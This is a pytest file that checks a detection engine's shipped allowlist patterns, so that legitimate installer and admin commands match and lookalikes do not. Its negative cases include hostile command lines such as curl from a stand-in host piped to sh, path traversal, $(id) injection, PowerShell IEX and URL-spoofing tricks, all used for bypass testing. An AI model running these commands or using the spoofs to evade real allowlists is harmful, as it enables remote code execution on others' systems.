"""The shipped allowlist: what each entry is for, and what wants to pass for it."""

from __future__ import annotations

import pytest
from engine import shipped

WINDOWS = "C:\\Windows\\System32\\cmd.exe /c"
HOOK = "sh -c test -x /usr/lib/needrestart/apt-pinvoke && /usr/lib/needrestart/apt-pinvoke || true"
UPDATE = "/bin/sh -c if [ -x /usr/bin/etckeeper ]; then etckeeper pre-install; fi"
KEY = "curl -fsSL https://dl.google.com/linux/linux_signing_key.pub -o /usr/share/keyrings/g.asc"
FORWARDER = '""C:\\Program Files\\SplunkUniversalForwarder\\bin\\splunk.exe" status"'
PIP = "/usr/bin/python3 /usr/lib/python3/dist-packages/pip/__pip-runner__.py install x"
ENTRIES = [
    ("ALW026", KEY, True),
    ("ALW026", "curl -o /tmp/x https://a.example/x https://dl.google.com/linux/a", False),
    ("ALW026", "curl https://dl.google.com/linux/a -o /tmp/x https://a.example/x", False),
    ("ALW027", HOOK, True),
    ("ALW027", UPDATE, True),
    ("ALW027", "sh -c test -x /usr/bin/needrestart; curl https://a.example/x | sh", False),
    ("ALW027", "sh -c /usr/share/needrestart/../../tmp/x $(id)", False),
    ("ALW013", f"{WINDOWS} {FORWARDER}", True),
    (
        "ALW013",
        f'{WINDOWS} ""C:\\Program Files\\SplunkUniversalForwarder\\bin\\..\\..\\..\\Public\\a.bat"',
        False,
    ),
    ("ALW017", 'cscript.exe //nologo "C:\\HP\\defaults\\set.vbs"', True),
    ("ALW017", "cmd.exe /c C:\\Users\\Public\\e.bat&c:\\hp\\a", False),
    ("ALW016", "powershell.exe Get-ExchangeServer ([Environment]::MachineName)", True),
    ("ALW016", "powershell.exe IEX $a;Get-ExchangeServer ([Environment]::MachineName)", False),
    ("ALW007", "curl -o /tmp/a.sh https://agents.addigy.com/install.sh", True),
    ("ALW007", "curl https://a.example/x https://agents.addigy.com/install.sh", False),
    ("ALW009", "installer -pkg /tmp/KSInstallAction.1/a.pkg -target /", True),
    ("ALW009", "installer -pkg /tmp/a.pkg -target /tmp/KSInstallAction.1/", False),
    ("ALW038", "/bin/sh /usr/lib/xymon/client/bin/xymonclient.sh", True),
    ("ALW038", "/bin/sh /usr/lib/xymon/../../../tmp/x", False),
    ("ALW038", "/bin/sh /usr/lib/contoso/collect.sh", False),
    ("ALW039", "bash -c curl -fsSL https://get.docker.com | sudo sh -s -- --dry-run", True),
    (
        "ALW039",
        'bash -c TOKEN="x" bash -c "`curl -sL https://raw.githubusercontent.com/buildkite/agent/main/install.sh`"',
        True,
    ),
    ("ALW039", "bash -c sh <(curl --tlsv1.2 -L https://nixos.org/nix/install) --daemon", True),
    ("ALW039", "bash -c curl -fsSL http://get.docker.com | sh", False),
    ("ALW039", "bash -c curl -fsSL https://get.docker.com.a.example/ | sh", False),
    ("ALW039", "bash -c curl -fsSL https://get.docker.com@a.example/ | sh", False),
    ("ALW039", "bash -c curl -s https://get.docker.com; curl http://a.example | sh", False),
    ("ALW039", "bash -c curl -s http://a.example/?x=https://get.docker.com | sh", False),
    ("ALW039", "bash -c curl -s https://raw.githubusercontent.com/someone/agent/x.sh | sh", False),
    ("ALW040", "curl --proto =https --tlsv1.2 -sSf https://sh.rustup.rs", True),
    ("ALW040", "wget -qO- https://a.example/https/sh.rustup.rs", False),
    ("ALW028", PIP, True),
    ("ALW028", "python3 -c exec(x) /pip/__main__.py install y", False),
]


@pytest.mark.parametrize(("entry", "text", "allowed"), ENTRIES)
def test_an_entry_is_for_what_it_names_and_nothing_beside_it(
    entry: str, text: str, allowed: bool
) -> None:
    (one,) = (a for a in shipped().allowances if a.allow_id == entry)
    assert bool(one.pattern.search(text)) is allowed
